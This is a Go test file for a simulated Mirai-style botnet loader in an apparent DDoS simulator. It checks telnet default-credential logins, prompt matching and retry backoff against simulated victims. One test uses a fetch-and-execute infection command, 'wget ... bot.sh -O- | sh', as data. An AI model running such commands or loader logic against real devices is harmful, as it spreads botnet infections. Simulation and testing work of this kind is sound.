package mirai

import (
	"net/netip"
	"strings"
	"testing"

	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// srcTest labels the events this package's tests schedule.
var srcTest = sim.NewSource("test")

// loaderRig builds an attacker container running just the loader.
func loaderRig(t *testing.T, cfg LoaderConfig) (*rig, *Loader) {
	t.Helper()
	r := newRig(t)
	img := &container.Image{
		Name: "ddosim/atk", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create("ddosim/atk:t", "attacker", r.link(100*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	l := NewLoader(cfg)
	c.Spawn(l)
	return r, l
}

// echoTelnet is a telnet-ish server on a raw host that, unlike the
// simulated BusyBox telnetd, echoes every line back (as a telnet NVT
// with ECHO on does), greets with a banner containing "$ ", executes
// shell commands after a delay, and can drop its first failLogins
// sessions right after receiving the password.
type echoTelnet struct {
	sched      *sim.Scheduler
	node       *netsim.Node
	failLogins int
	execDelay  sim.Time

	sessions int
	commands []string
	ran      int
}

func newEchoTelnet(t *testing.T, r *rig, failLogins int) *echoTelnet {
	t.Helper()
	et := &echoTelnet{sched: r.sched, failLogins: failLogins, execDelay: 200 * sim.Millisecond}
	et.node = r.star.AttachHost("echodev", 500*netsim.Kbps, sim.Millisecond, 0)
	if _, err := et.node.ListenTCP(23, et.accept); err != nil {
		t.Fatal(err)
	}
	return et
}

func (et *echoTelnet) accept(conn *netsim.TCPConn) {
	et.sessions++
	state := 0
	var buf []byte
	_ = conn.Send([]byte("console on dev$ board\nlogin: "))
	conn.SetDataHandler(func(data []byte) {
		buf = append(buf, data...)
		for {
			idx := strings.IndexByte(string(buf), '\n')
			if idx < 0 {
				return
			}
			line := strings.TrimRight(string(buf[:idx]), "\r")
			buf = buf[idx+1:]
			_ = conn.Send([]byte(line + "\r\n")) // NVT echo
			switch state {
			case 0:
				state = 1
				_ = conn.Send([]byte("Password: "))
			case 1:
				if et.failLogins > 0 {
					et.failLogins--
					conn.Close()
					return
				}
				state = 2
				_ = conn.Send([]byte("welcome\n$ "))
			case 2:
				if line == "exit" {
					conn.Close()
					return
				}
				et.commands = append(et.commands, line)
				et.sched.Schedule(et.execDelay, srcTest, func() {
					et.ran++
					_ = conn.Send([]byte("$ "))
				})
			}
		}
	})
}

func TestLoaderIgnoresPromptLookalikesInBannerAndEcho(t *testing.T) {
	// Regression: the old state machine matched prompts against the
	// whole accumulated transcript, so a banner containing "$ " plus
	// the server's echo of an InfectionCommand containing "$ "
	// satisfied the prompt-return check before the command had run.
	cmd := `wget -q http://10.0.0.1/bot.sh -O- | sh # price $ 0`
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: cmd})
	et := newEchoTelnet(t, r, 0)
	l.cfg.OnLoaded = func(netip.Addr) {
		if et.ran == 0 {
			t.Error("OnLoaded fired before the infection command executed")
		}
	}
	l.onReport("victim " + et.node.Addr4().String() + " root admin")
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Loads != 1 {
		t.Fatalf("loads = %d", l.Loads)
	}
	if len(et.commands) != 1 || et.commands[0] != cmd {
		t.Fatalf("victim ran %q, want %q once", et.commands, cmd)
	}
}

func TestLoaderBackoffRecoversFromMidLoginDeath(t *testing.T) {
	// Sessions dying mid-login must leave the victim reloadable, and
	// the loader's own backoff — no fresh scanner report — must
	// eventually infect it.
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: "run bot"})
	et := newEchoTelnet(t, r, 2)
	l.onReport("victim " + et.node.Addr4().String() + " root admin")
	if err := r.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Loads != 1 {
		t.Fatalf("loads = %d (retries = %d)", l.Loads, l.Retries)
	}
	if l.Retries < 2 {
		t.Fatalf("retries = %d, want >= 2", l.Retries)
	}
	if et.sessions != 3 {
		t.Fatalf("sessions = %d, want 3 (two dropped + one success)", et.sessions)
	}
	if l.Loaded() != 1 {
		t.Fatalf("loaded = %d", l.Loaded())
	}
}

func TestLoaderBackoffAloneInfectsOfflineVictim(t *testing.T) {
	// A single report for an offline victim; the victim comes back two
	// minutes later and is never re-reported. Active re-dial must pick
	// it up.
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "admin"}, "rm -f /nothing")
	victimAddr := sr.victim.Node().Addr4()
	sr.victim.Node().DefaultDevice().SetUp(false)
	sr.loader.onReport("victim " + victimAddr.String() + " root admin")
	sr.sched.Schedule(2*sim.Minute, srcTest, func() {
		sr.victim.Node().DefaultDevice().SetUp(true)
	})
	if err := sr.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sr.loader.Loads != 1 {
		t.Fatalf("loads = %d (backoff never reached the victim; retries = %d)",
			sr.loader.Loads, sr.loader.Retries)
	}
	if sr.loader.Retries == 0 {
		t.Fatal("no retries recorded")
	}
	if sr.telnet.Logins != 1 {
		t.Fatalf("victim logins = %d", sr.telnet.Logins)
	}
}

func TestLoaderReleasesVictimAfterRetryBudget(t *testing.T) {
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: "run bot"})
	dead := r.star.AttachHost("empty", netsim.Mbps, sim.Millisecond, 0) // nothing on port 23
	addr := dead.Addr4()
	l.onReport("victim " + addr.String() + " root admin")
	// Every backoff delay, plus a minute for the refused dials.
	budget := sim.Minute
	for i := 0; i < maxRetries; i++ {
		budget += min(retryBase<<i, retryCap)
	}
	if err := r.sched.Run(budget); err != nil {
		t.Fatal(err)
	}
	if l.Retries != maxRetries {
		t.Fatalf("retries = %d, want exactly maxRetries (%d)", l.Retries, maxRetries)
	}
	if l.Loads != 0 || l.loaded[addr] != nil {
		t.Fatal("unreachable victim marked loaded")
	}
	// The budget exhausted: the victim is released so a later scanner
	// report can start over.
	if l.pending[addr] != nil {
		t.Fatal("victim still pending after retry budget")
	}
}
